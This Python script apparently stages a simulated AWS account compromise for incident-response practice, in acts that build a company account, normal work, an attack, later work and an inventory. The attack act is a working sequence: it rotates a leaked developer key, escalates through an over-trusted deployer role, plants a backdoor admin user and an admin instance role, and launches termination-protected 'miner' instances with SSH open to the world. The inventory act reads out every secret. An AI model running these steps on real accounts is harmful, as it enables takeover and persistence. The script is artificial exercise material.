"""What people and an attacker do in an account, and what is left of it: one act a call, JSON in, JSON out.

python story.py company|work|attack|after|inspect < {"endpoint": …, "keys": {…}}
"""

import json
import sys

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

IMAGE = "ami-0abcdef1234567890"
MINING_REGIONS = ["us-east-1", "eu-west-1", "ap-southeast-2", "sa-east-1"]
EVERYTHING = {"Effect": "Allow", "Action": "*", "Resource": "*"}
TRUSTED = {"Effect": "Allow", "Action": "sts:AssumeRole"}


def document(*statements):
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


class As:
    """Clients of one caller at one endpoint."""

    def __init__(self, endpoint, keys):
        self.endpoint = endpoint
        self.keys = keys

    def client(self, service, region="us-east-1"):
        return boto3.client(
            service,
            region_name=region,
            endpoint_url=self.endpoint,
            aws_access_key_id=self.keys["id"],
            aws_secret_access_key=self.keys["secret"],
            aws_session_token=self.keys.get("token"),
            config=Config(retries={"max_attempts": 2}, parameter_validation=True),
        )


def keys_of(answer):
    key = answer["AccessKey"]
    return {"id": key["AccessKeyId"], "secret": key["SecretAccessKey"]}


def launch(ec2, count=1, **more):
    answer = ec2.run_instances(ImageId=IMAGE, InstanceType="c5.large", MinCount=count, MaxCount=count, **more)
    return [instance["InstanceId"] for instance in answer["Instances"]]


def refused(call, **arguments):
    try:
        call(**arguments)
    except ClientError as error:
        return error.response["Error"]["Code"]
    return "was not refused"


def company(endpoint, keys):
    """The account before anything happens, made by its root user."""
    iam = As(endpoint, keys["root"]).client("iam")
    account = As(endpoint, keys["root"]).client("sts").get_caller_identity()["Account"]
    iam.update_account_password_policy(MinimumPasswordLength=16, RequireSymbols=True, RequireNumbers=True)
    # The developer may do everything but IAM, and look after keys, as a power user's policy may.
    power_user = document(
        {"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"},
        {"Effect": "Allow", "Action": ["iam:*AccessKey*"], "Resource": "*"},
    )
    policies = {"admin": document(EVERYTHING), "responder": document(EVERYTHING), "operator": document(EVERYTHING)}
    policies |= {"developer": power_user, "ci-bot": document({"Effect": "Allow", "Action": "s3:*", "Resource": "*"})}
    people = {}
    for name, policy in policies.items():
        iam.create_user(UserName=name)
        iam.put_user_policy(UserName=name, PolicyName="work", PolicyDocument=policy)
        people[name] = keys_of(iam.create_access_key(UserName=name))
    for name in ["admin", "operator", "developer"]:
        iam.create_login_profile(UserName=name, Password="An-old-password-1!")
    trust = document({**TRUSTED, "Principal": {"AWS": f"arn:aws:iam::{account}:user/developer"}})
    iam.create_role(RoleName="deployer", AssumeRolePolicyDocument=trust)
    iam.put_role_policy(RoleName="deployer", PolicyName="deploy", PolicyDocument=document(EVERYTHING))
    return {"account": account, "people": people}


def work(endpoint, keys):
    """The developer and a pipeline use the key that will leak; the others work as ever."""
    made = {"instances": {}}
    developer, admin, operator = (As(endpoint, keys[name]) for name in ["developer", "admin", "operator"])
    made["instances"]["us-east-1"] = launch(developer.client("ec2"))
    developer.client("ec2").create_key_pair(KeyName="developer-build")
    iam = admin.client("iam")
    iam.create_user(UserName="newcomer")
    made["newcomer"] = keys_of(iam.create_access_key(UserName="newcomer"))
    trust = document({**TRUSTED, "Principal": {"Service": "ec2.amazonaws.com"}})
    iam.create_role(RoleName="reporting", AssumeRolePolicyDocument=trust)
    iam.create_instance_profile(InstanceProfileName="reporting")
    iam.add_role_to_instance_profile(InstanceProfileName="reporting", RoleName="reporting")
    ec2 = operator.client("ec2", "eu-west-1")
    ec2.create_key_pair(KeyName="operator-laptop")
    group = ec2.create_security_group(GroupName="web", Description="Web servers")["GroupId"]
    made["instances"]["eu-west-1"] = launch(ec2, 2, KeyName="operator-laptop", SecurityGroupIds=[group])
    ec2.modify_instance_attribute(
        InstanceId=made["instances"]["eu-west-1"][0], DisableApiTermination={"Value": True}
    )
    volume = ec2.create_volume(AvailabilityZone="eu-west-1a", Size=20)["VolumeId"]
    made["snapshot"] = ec2.create_snapshot(VolumeId=volume, Description="Nightly")["SnapshotId"]
    return made | {"group": group, "volume": volume}


def attack(endpoint, keys):
    """The key was found: a new one for the old, a way round IAM, miners in four regions, ways back in."""
    made = {"instances": {}, "protected": [], "keyPairs": {}, "groups": {}, "volumes": {}, "snapshots": {}}
    leaked = As(endpoint, keys["developer"])
    leaked.client("sts").get_caller_identity()
    second = keys_of(leaked.client("iam").create_access_key(UserName="developer"))
    made["key"] = second["id"]
    attacker = As(endpoint, second)
    attacker.client("iam").delete_access_key(UserName="developer", AccessKeyId=keys["developer"]["id"])
    made["createUser"] = refused(attacker.client("iam").create_user, UserName="support")
    session = attacker.client("sts").assume_role(
        RoleArn=f"arn:aws:iam::{keys['account']}:role/deployer", RoleSessionName="deploy"
    )["Credentials"]
    deployer = As(
        endpoint,
        {"id": session["AccessKeyId"], "secret": session["SecretAccessKey"], "token": session["SessionToken"]},
    )
    iam = deployer.client("iam")
    iam.create_user(UserName="support")
    iam.put_user_policy(UserName="support", PolicyName="all", PolicyDocument=document(EVERYTHING))
    support = keys_of(iam.create_access_key(UserName="support"))
    made["supportKey"] = support["id"]
    iam.create_login_profile(UserName="support", Password="Mine-now-and-later-1!")
    iam.create_role(
        RoleName="ec2-health",
        AssumeRolePolicyDocument=document({**TRUSTED, "Principal": {"Service": "ec2.amazonaws.com"}}),
    )
    iam.put_role_policy(RoleName="ec2-health", PolicyName="all", PolicyDocument=document(EVERYTHING))
    iam.create_instance_profile(InstanceProfileName="ec2-health")
    iam.add_role_to_instance_profile(InstanceProfileName="ec2-health", RoleName="ec2-health")
    for region in MINING_REGIONS:
        ec2 = attacker.client("ec2", region)
        ec2.create_key_pair(KeyName="default-key")
        made["keyPairs"][region] = "default-key"
        group = ec2.create_security_group(GroupName="launch-wizard-1", Description="launch-wizard-1 created")["GroupId"]
        ec2.authorize_security_group_ingress(
            GroupId=group, IpProtocol="tcp", FromPort=22, ToPort=22, CidrIp="0.0.0.0/0"
        )
        made["groups"][region] = group
        ids = launch(ec2, 3, KeyName="default-key", SecurityGroupIds=[group])
        for protected in ids[:2]:
            ec2.modify_instance_attribute(InstanceId=protected, DisableApiTermination={"Value": True})
            made["protected"].append(protected)
        made["instances"][region] = ids
    persistent = As(endpoint, support).client("ec2", "us-west-2")
    made["instances"]["us-west-2"] = launch(persistent)
    volume = persistent.create_volume(AvailabilityZone="us-west-2a", Size=100)["VolumeId"]
    made["volumes"]["us-west-2"] = volume
    made["snapshots"]["us-west-2"] = persistent.create_snapshot(VolumeId=volume, Description="copy")["SnapshotId"]
    return made


def after(endpoint, keys):
    """Work goes on after the leak, in the same regions and of the same kinds."""
    admin, operator = As(endpoint, keys["admin"]), As(endpoint, keys["operator"])
    iam = admin.client("iam")
    iam.create_user(UserName="contractor")
    made = {"contractor": keys_of(iam.create_access_key(UserName="contractor"))}
    iam.create_login_profile(UserName="contractor", Password="An-old-password-2!")
    ec2 = operator.client("ec2", "us-east-1")
    ec2.create_key_pair(KeyName="operator-us")
    group = ec2.create_security_group(GroupName="batch", Description="Batch")["GroupId"]
    made["group"] = group
    made["instances"] = {"us-east-1": launch(ec2, 2, KeyName="operator-us", SecurityGroupIds=[group])}
    made["volume"] = ec2.create_volume(AvailabilityZone="us-east-1a", Size=10)["VolumeId"]
    return made


def inspect(endpoint, keys):
    """Everything of the kinds above that the account has now."""
    me = As(endpoint, keys["responder"])
    iam = me.client("iam")
    found = {"regions": {}, "users": {}, "secrets": []}
    for user in iam.list_users()["Users"]:
        name = user["UserName"]
        metadata = iam.list_access_keys(UserName=name)["AccessKeyMetadata"]
        found["users"][name] = {
            "keys": {key["AccessKeyId"]: key["Status"] for key in metadata},
            "password": "reset" if password_reset(iam, name) else "old" if has_password(iam, name) else None,
            "policies": iam.list_user_policies(UserName=name)["PolicyNames"],
        }
    found["roles"] = {
        role["RoleName"]: iam.list_role_policies(RoleName=role["RoleName"])["PolicyNames"]
        for role in iam.list_roles()["Roles"]
    }
    found["instanceProfiles"] = [
        profile["InstanceProfileName"] for profile in iam.list_instance_profiles()["InstanceProfiles"]
    ]
    regions = [region["RegionName"] for region in me.client("ec2").describe_regions()["Regions"]]
    for region in sorted({*MINING_REGIONS, "us-west-2"} & {*regions}):
        ec2 = me.client("ec2", region)
        instances = [
            instance
            for reservation in ec2.describe_instances()["Reservations"]
            for instance in reservation["Instances"]
        ]
        found["regions"][region] = {
            "instances": {instance["InstanceId"]: instance["State"]["Name"] for instance in instances},
            "keyPairs": [pair["KeyName"] for pair in ec2.describe_key_pairs()["KeyPairs"]],
            "groups": [group["GroupId"] for group in ec2.describe_security_groups()["SecurityGroups"]],
            "volumes": [volume["VolumeId"] for volume in ec2.describe_volumes()["Volumes"]],
            "snapshots": [
                each["SnapshotId"]
                for each in ec2.describe_snapshots(OwnerIds=[keys["account"]])["Snapshots"]
                if not each["Description"].startswith("Auto-created")
            ],
        }
    secrets = me.client("secretsmanager")
    for secret in secrets.list_secrets()["SecretList"]:
        value = secrets.get_secret_value(SecretId=secret["ARN"])["SecretString"]
        found["secrets"].append({"name": secret["Name"], "value": value})
    return found


def has_password(iam, name):
    return refused(iam.get_login_profile, UserName=name) == "was not refused"


def password_reset(iam, name):
    return has_password(iam, name) and iam.get_login_profile(UserName=name)["LoginProfile"]["PasswordResetRequired"]


ACTS = {act.__name__: act for act in (company, work, attack, after, inspect)}
given = json.load(sys.stdin)
json.dump(ACTS[sys.argv[1]](given["endpoint"], given["keys"]), sys.stdout)
